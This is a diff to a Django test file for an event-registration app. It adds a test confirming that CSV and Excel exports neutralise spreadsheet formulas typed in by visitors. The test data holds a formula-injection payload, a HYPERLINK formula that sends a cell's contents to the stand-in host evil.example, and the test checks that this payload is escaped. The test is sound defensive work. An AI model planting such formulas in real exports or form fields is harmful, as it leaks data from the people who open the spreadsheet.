@@ -48,13 +48,47 @@ def test_attendee_list_and_overview(editor_client, event_with_people):
 def test_csv_export_lists_registrants_and_defuses_formulas(editor_client, event_with_people):
     response = editor_client.get(f"/beheer/bijeenkomsten/{event_with_people.pk}/deelnemers.csv")
     assert response["Content-Type"].startswith("text/csv")
-    text = response.content.decode("utf-8-sig")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
     lines = text.strip().splitlines()
     assert lines[0] == "naam;e-mailadres;organisatie;status;sessies;aangemeld op"
     assert any(line.startswith("Anna Aalders;") and ";Parel;" in line for line in lines)
     assert any(line.startswith("'=HYPERLINK(1);") for line in lines)
     assert "Weg Af" not in text
     assert len(lines) == 4
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&B2,"klik")'
+
+
+@pytest.mark.django_db
+def test_registrations_export_defuses_formulas_typed_by_a_visitor(
+    editor_client, make_event, django_capture_on_commit_callbacks
+):
+    """Issue 11 finding 4: Wagtail's own export of the registrations viewset."""
+    import io
+
+    from django.test import Client
+    from openpyxl import load_workbook
+
+    event = make_event(capacity=10)
+    visitor = Client()
+    data = {"name": FORMULA_NAME, "email": "bezoeker@example.org", "organisation_name": "@SUM(1)"}
+    with django_capture_on_commit_callbacks(execute=True):
+        visitor.post(event.url + "aanmelden/", data)
+    assert Registration.objects.get().name == FORMULA_NAME
+
+    response = editor_client.get("/beheer/registrations/?export=csv")
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode()
+    row = next(line for line in text.splitlines() if "bezoeker@example.org" in line)
+    assert "'=HYPERLINK(" in row and ",'@SUM(1)," in row
+    assert ",=HYPERLINK" not in row and not row.split(",")[1].startswith("=")
+
+    response = editor_client.get("/beheer/registrations/?export=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
+    assert "'" + FORMULA_NAME in values and "'@SUM(1)" in values
+    assert not any(isinstance(value, str) and value.startswith("=") for value in values)
 
 
 @pytest.mark.django_db
@@ -157,9 +191,10 @@ def event_form_data(**overrides):
 
 
 @pytest.mark.django_db
+@pytest.mark.usefixtures("without_workflow")  # the office publishes at once here
 def test_editor_creates_event_with_session_presenting_a_practice(editor_client, event_index, home):
-    from route2020.core.demo.load import child
     from route2020.core.models import ContentPage
+    from route2020.core.pages import child
     from route2020.events.models import EventPage
 
     practice = child(home, ContentPage, "taalhuis", title="Taalhuis")
